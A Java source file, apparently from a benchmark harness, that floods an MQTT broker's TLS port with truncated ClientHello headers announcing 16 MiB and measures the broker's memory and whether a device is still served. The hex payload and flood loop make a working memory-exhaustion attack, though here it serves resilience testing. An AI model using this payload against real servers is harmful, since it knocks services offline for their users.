package io.guardbee.bench.attack;

import io.guardbee.bench.attack.AttackBench.Plan;
import java.net.InetAddress;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;

/**
 * Connections that send ten octets: the header of a TLS record and that of a ClientHello of 16 MiB
 * (RFC 8446 §4: its length has 24 bits). A server that makes room for what is announced pays 16 MiB
 * for each (CVE-2026-45416, CVE-2026-75596).
 */
record TlsHelloAttack(Target target, Plan plan) {

  /** A whole handshake record of five octets; they begin a ClientHello of 16,777,215. */
  private static final byte[] ANNOUNCEMENT = HexFormat.of().parseHex("160301000501ffffff03");

  List<AttackFigure> run() throws Exception {
    ProcessMemory memory = new ProcessMemory(target.broker());
    Client device = target.device();
    List<AttackFigure> figures = new ArrayList<>();
    device.run(plan.seconds()); // compilers are done before anything is measured
    figures.addAll(device.run(plan.seconds()).figures("quiet", "quiet, " + device.name()));
    figures.add(
        AttackFigure.of("memory.before", memory.now(), "MiB resident in the broker before"));
    attack("same", List.of(Addresses.OWN), figures);
    attack("others", Addresses.OTHERS, figures);
    figures.add(AttackFigure.of("memory.after", memory.now(), "MiB resident in the broker after"));
    figures.add(AttackFigure.of("memory.peak", memory.peak(), "MiB resident at most"));
    return figures;
  }

  private void attack(String name, List<InetAddress> from, List<AttackFigure> figures)
      throws Exception {
    Client device = target.device();
    Flood.Opening opening =
        plain -> {
          plain.getOutputStream().write(ANNOUNCEMENT);
          return plain;
        };
    try (Flood flood =
        Flood.start(new Flood.Plan(target.mqtts(), from, opening), plan.connections())) {
      Client.Noticed noticed = device.run(plan.seconds());
      String where =
          name.equals("same") ? "attacked from its own address" : "attacked from 4 others";
      figures.addAll(flood.figures(name, where));
      figures.addAll(noticed.figures(name, where + ", " + device.name()));
      AttackBench.requireServed(where, List.of(noticed), target);
    }
  }
}
